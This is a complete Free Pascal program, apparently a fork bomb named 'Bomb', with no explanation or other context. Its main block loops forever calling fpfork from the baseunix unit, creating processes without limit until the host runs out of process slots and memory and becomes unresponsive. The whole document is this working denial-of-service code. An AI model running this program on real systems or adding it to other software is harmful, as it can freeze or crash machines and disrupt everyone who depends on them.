program Bomb;
uses baseunix;
begin
  while true do fpfork;
end.
